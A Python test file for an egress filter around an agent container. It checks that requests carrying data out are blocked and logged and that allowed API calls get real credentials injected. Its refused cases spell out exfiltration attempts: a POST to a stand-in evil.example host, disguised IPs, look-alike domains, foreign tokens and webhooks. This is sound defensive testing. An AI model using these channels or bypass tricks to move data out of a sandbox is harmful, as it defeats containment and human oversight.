"""What leaves the container, and what does not: each case against the overlay, and against the library alone as its control."""

import json
import re

import bucket
import gateway
from worker import ACCOUNT, CONTAINER, REAL, SHOWN, STOCK_PROPS, Worker, ours

JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
SLACK = "https://slack.com/api/chat.postMessage"
FOREIGN_SLACK = "xoxb-9999-ATTACKER"
R2 = f"https://{ACCOUNT}.r2.cloudflarestorage.com"


def parts(name, value):
    return (f'--b\r\ncontent-disposition: form-data; name="{name}"\r\n\r\n{value}\r\n--b--\r\n', {"content-type": "multipart/form-data; boundary=b"})


def refused():
    """Name, URL, method, headers, body, the reason, the rule."""
    ours_header = {"x-api-key": SHOWN["ANTHROPIC_API_KEY"]}
    multipart, multipart_type = parts("token", FOREIGN_SLACK)
    return [
        ("an evil host", "https://evil.example/collect?data=c2VjcmV0", "POST", {}, "stolen", "host", None),
        ("a raw IPv4 address", "https://93.184.216.34/collect", "GET", {}, None, "ip", None),
        ("a raw IPv6 address", "https://[2606:2800:220:1::1]/", "GET", {}, None, "ip", None),
        ("an address in disguise", "https://0x5db8d822/", "GET", {}, None, "ip", None),
        ("an odd port", "https://api.anthropic.com:8443/v1/messages", "POST", ours_header | JSON, "{}", "port", "anthropic"),
        ("http://", "http://api.anthropic.com/v1/messages", "POST", ours_header | JSON, "{}", "scheme", None),
        ("a look-alike of an allowed host", "https://evilslack.com/api/chat.postMessage", "POST", {}, "x", "host", None),
        ("an allowed host as a beginning", "https://slack.com.evil.example/api/x", "POST", {}, "x", "host", None),
        ("Anthropic's /v1/files", "https://api.anthropic.com/v1/files", "POST", ours_header, "stolen", "path", "anthropic"),
        ("Anthropic with a stranger's key", "https://api.anthropic.com/v1/messages", "POST",
         {"x-api-key": "sk-ant-ATTACKER"} | JSON, "{}", "foreign-credential", "anthropic"),
        ("a stranger's Telegram bot", "https://api.telegram.org/bot777:AAATTACKER/sendMessage?text=stolen", "GET", {}, None,
         "foreign-credential", "telegram"),
        ("a stranger's Slack token (header)", SLACK, "POST", {"authorization": f"Bearer {FOREIGN_SLACK}"} | JSON, "{}",
         "foreign-credential", "slack-api"),
        ("a stranger's Slack token (query)", f"{SLACK}?token={FOREIGN_SLACK}&channel=C1", "POST", {}, None,
         "foreign-credential", "slack-api"),
        ("a stranger's Slack token (form)", SLACK, "POST", FORM, f"channel=C1&token={FOREIGN_SLACK}",
         "foreign-credential", "slack-api"),
        ("a stranger's Slack token (JSON)", SLACK, "POST", JSON, json.dumps({"channel": "C1", "token": FOREIGN_SLACK}),
         "foreign-credential", "slack-api"),
        ("a stranger's Slack token (parts)", SLACK, "POST", multipart_type, multipart, "foreign-credential", "slack-api"),
        ("a body that cannot be searched", SLACK, "POST", {"content-type": "application/x-unheard-of"}, "x", "body", "slack-api"),
        ("a Discord webhook", "https://discord.com/api/webhooks/1/ATTACKER", "POST", JSON, "{}", "denied", "discord-webhooks"),
        ("a Discord webhook below the API's version", "https://discord.com/api/v10/webhooks/1/ATTACKER", "POST", JSON, "{}",
         "denied", "discord-webhooks"),
        ("the same with an escaped letter", "https://discord.com/api/v10/%77ebhooks/1/ATTACKER", "POST", JSON, "{}",
         "denied", "discord-webhooks"),
        ("a stranger's Discord bot", "https://discord.com/api/v10/channels/1/messages", "POST",
         {"authorization": "Bot ATTACKER"} | JSON, "{}", "foreign-credential", "discord-api"),
        ("another bucket", f"{R2}/other-bucket/key", "GET", bucket.signed("GET"), None, "path", "r2"),
        ("a stranger's R2 key", f"{R2}/moltbot-data/key", "GET", bucket.signed("GET", key="ATTACKER"), None,
         "foreign-credential", "r2"),
        ("a presigned R2 URL", f"{R2}/moltbot-data/key?X-Amz-Credential=ATTACKER%2F20260101%2Fauto%2Fs3%2Faws4_request", "GET",
         {}, None, "foreign-credential", "r2"),
        ("pieces that are signed one by one", f"{R2}/moltbot-data/key", "PUT",
         bucket.signed("PUT", sha="STREAMING-AWS4-HMAC-SHA256-PAYLOAD"), "x", "signed-pieces", "r2"),
        ("a copy out of another bucket", f"{R2}/moltbot-data/key", "PUT",
         bucket.signed("PUT") | {"x-amz-copy-source": "/other-bucket/key"}, None, "copy-source", "r2"),
        ("a WebSocket where none may be", "https://docs.example.com/", "GET", {"upgrade": "websocket"}, None,
         "websocket", "docs"),
        ("Slack's webhooks", "https://hooks.slack.com/services/T/B/ATTACKER", "POST", JSON, "{}", "path", "slack-socket"),
    ]


def log_is_clean(lines):
    """A line with nothing in it of a credential, a path or a query."""
    text = "\n".join(lines)
    told = [value for value in [*REAL.values(), *SHOWN.values()] if value in text]
    return not told and not re.search(r"ATTACKER|stolen|c2VjcmV0|/v1|/api|/bot|moltbot-data|\?", text)


def check_refused(checks, hardened, stock):
    for name, url, method, headers, body, reason, rule in refused():
        answer, arrived, lines = hardened.leaves(url, method, headers, body)
        host = answer_host(url)
        wanted = [{"moltctl": "egress.deny", "host": host, "method": method, "rule": rule, "reason": reason,
                   "container": CONTAINER}]
        good = answer.get("status") == 403 and not arrived and ours(lines) == wanted and len(lines) == 1
        checks.that(f"refused with 403 and logged: {name}", good and log_is_clean(lines),
                    f"{answer}\narrived {arrived}\nlogged {lines}\nwanted {wanted}")
        _, arrived, _ = stock.leaves(url, method, headers, body, props=STOCK_PROPS)
        checks.that(f"  without the overlay it leaves: {name}", len(arrived) == 1, arrived)


def answer_host(url):
    """The host as the runtime reads it."""
    disguised = {"0x5db8d822": "93.184.216.34"}
    host = re.match(r"\w+://(\[[^\]]*\]|[^/:?]*)", url)[1]
    return disguised.get(host, host)


def allowed():
    """Name, URL, method, headers, body, and what has to be true of what arrives."""
    key = REAL["ANTHROPIC_API_KEY"]
    message = json.dumps({"model": "m", "messages": []})
    bot, slack = REAL["TELEGRAM_BOT_TOKEN"], f"Bearer {REAL['SLACK_BOT_TOKEN']}"
    anthropic = "https://api.anthropic.com/v1/messages"
    return [
        ("Anthropic, with its header", anthropic, "POST", {"x-api-key": SHOWN["ANTHROPIC_API_KEY"]} | JSON, message,
         lambda it: it["headers"]["x-api-key"] == key and it["text"] == message),
        ("Anthropic, with a bearer", anthropic, "POST", {"authorization": f"Bearer {SHOWN['ANTHROPIC_API_KEY']}"} | JSON,
         message, lambda it: it["headers"]["x-api-key"] == key and "authorization" not in it["headers"]),
        ("Anthropic, without a key", anthropic, "POST", JSON, message, lambda it: it["headers"]["x-api-key"] == key),
        ("Telegram, in the path", f"https://api.telegram.org/bot{SHOWN['TELEGRAM_BOT_TOKEN']}/getMe?limit=1", "GET", {}, None,
         lambda it: it["path"] == f"/bot{bot}/getMe?limit=1"),
        ("Telegram, a file", f"https://api.telegram.org/file/bot{SHOWN['TELEGRAM_BOT_TOKEN']}/photos/1.jpg", "GET", {}, None,
         lambda it: it["path"] == f"/file/bot{bot}/photos/1.jpg"),
        ("Slack, in the header", SLACK, "POST", {"authorization": f"Bearer {SHOWN['SLACK_BOT_TOKEN']}"} | JSON, "{}",
         lambda it: it["headers"]["authorization"] == slack),
        ("Slack, in a form", SLACK, "POST", FORM, f"channel=C1&token={SHOWN['SLACK_BOT_TOKEN']}&text=a%20b",
         lambda it: it["headers"]["authorization"] == slack and it["text"] == "channel=C1&text=a%20b"),
        ("Slack, in JSON", SLACK, "POST", JSON, json.dumps({"token": SHOWN["SLACK_BOT_TOKEN"], "text": "é"}),
         lambda it: it["headers"]["authorization"] == slack and json.loads(it["text"]) == {"text": "é"}),
        ("Slack, in the query", f"{SLACK}?token={SHOWN['SLACK_BOT_TOKEN']}&channel=C1", "POST", {}, None,
         lambda it: it["headers"]["authorization"] == slack and it["path"] == "/api/chat.postMessage?channel=C1"),
        ("Discord, in the header", "https://discord.com/api/v10/users/@me", "GET",
         {"authorization": f"Bot {SHOWN['DISCORD_BOT_TOKEN']}"}, None,
         lambda it: it["headers"]["authorization"] == f"Bot {REAL['DISCORD_BOT_TOKEN']}"),
    ]


def check_allowed(checks, hardened, stock):
    for name, url, method, headers, body, good in allowed():
        answer, arrived, lines = hardened.leaves(url, method, headers, body)
        once = len(arrived) == 1 and arrived[0]["scheme"] == "https" and answer["status"] == 200
        checks.that(f"arrives with the real credential: {name}", once and good(read(arrived[0])),
                    f"{answer}\n{arrived}\n{lines}")
        checks.that(f"  and nothing of it is logged or answered: {name}",
                    not ours(lines) and not any(real in str(answer) for real in REAL.values()), f"{answer}\n{lines}")
        _, arrived, _ = stock.leaves(url, method, headers, body, props=STOCK_PROPS)
        control = len(arrived) == 1 and not any(real in str(read(arrived[0])) for real in REAL.values())
        checks.that(f"  without the overlay the placeholder is all that arrives: {name}", control, arrived)
    # A placeholder where nothing reads a credential is not filled in: what is stored could be read again.
    text = json.dumps({"channel": "C1", "text": SHOWN["SLACK_BOT_TOKEN"]})
    _, arrived, _ = hardened.leaves(SLACK, "POST", JSON, text)
    checks.same("a placeholder in a message stays one", [read(it)["text"] for it in arrived], [text])
    own = {"authorization": "Bearer my-own"}
    _, arrived, _ = hardened.leaves("https://docs.example.com/x", "GET", own)
    checks.same("a credential of the agent's own passes where the rule says so",
                [it["headers"]["authorization"] for it in arrived], ["Bearer my-own"])
    answer, arrived, _ = hardened.leaves("https://docs.example.com/moved")
    checks.that("a redirect is answered, not followed", answer["status"] == 302 and len(arrived) == 1
                and answer["headers"]["location"] == "https://evil.example/collect", f"{answer}\n{arrived}")
    large = b"x" * 3_000_000
    _, arrived, _ = hardened.leaves("https://docs.example.com/up", "PUT", {"content-type": "application/zip"}, large)
    headers = arrived[0]["headers"] if arrived else {}
    checks.that("a body that nobody has to search keeps its length",
                headers.get("content-length") == str(len(large)) and "transfer-encoding" not in headers, headers)


def read(arrived):
    import base64
    return arrived | {"text": base64.b64decode(arrived["body"]).decode()}


def check_unset(checks, build):
    with Worker(build, "unset", ANTHROPIC_API_KEY="") as worker:
        answer, arrived, lines = worker.leaves("https://api.anthropic.com/v1/messages", "POST", JSON, "{}")
        checks.that("a slot that is not set lets nothing out", answer["status"] == 403 and not arrived
                    and [it["reason"] for it in ours(lines)] == ["unset"], f"{answer}\n{lines}")


def check_lockdown(checks, build):
    with Worker(build, "locked", MOLTCTL_LOCKDOWN="1") as worker:
        message = ("https://api.anthropic.com/v1/messages", "POST", {"x-api-key": SHOWN["ANTHROPIC_API_KEY"]} | JSON, "{}")
        answer, arrived, lines = worker.leaves(*message)
        checks.that("the emergency brake stops what was allowed", answer["status"] == 403 and not arrived
                    and [it["reason"] for it in ours(lines)] == ["lockdown"], f"{answer}\n{lines}")
        for path in ("/", "/sandbox-health", "/api/status"):
            answer, kept, lines = worker.enters(path)
            checks.that(f"the emergency brake answers 503 and wakes nothing ({path})", answer["status"] == 503 and not kept
                        and [it["reason"] for it in ours(lines)] == ["lockdown"], f"{answer}\n{kept}\n{lines}")


def check(checks, builds):
    with Worker(builds["hardened"], "hardened") as hardened, Worker(builds["stock"], "stock") as stock:
        check_refused(checks, hardened, stock)
        check_allowed(checks, hardened, stock)
        bucket.check(checks, hardened)
        gateway.check(checks, hardened, stock)
    with Worker(builds["strict"], "all") as worker:
        _, _, lines = worker.leaves("https://docs.example.com/x?token=")
        checks.same("`log = \"all\"` tells what was allowed",
                    [(it["moltctl"], it["host"], it["rule"]) for it in ours(lines)], [("egress.allow", "docs.example.com", "docs")])
    check_unset(checks, builds["hardened"])
    check_lockdown(checks, builds["hardened"])
